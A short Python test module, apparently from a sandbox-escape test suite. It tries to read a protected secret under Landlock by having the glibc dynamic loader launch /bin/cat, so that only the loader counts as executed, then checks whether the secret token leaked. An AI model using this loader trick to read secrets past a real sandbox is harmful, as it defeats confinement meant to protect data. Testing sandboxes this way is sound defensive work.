"""Read a secret by a program that the dynamic loader starts, so that only the loader is executed."""

import glob

from escape_tools import Absent, read_by

NEEDS = ("landlock",)


def attempt(at):
    loaders = glob.glob("/lib64/ld-linux-*.so.*") + glob.glob("/lib/ld-linux-*.so.*")
    if not loaders:
        raise Absent("no loader of glibc where it usually lies")
    return read_by([loaders[0], "/bin/cat", at.secret])


def proof(at, seen):
    return seen.tells(at.token)
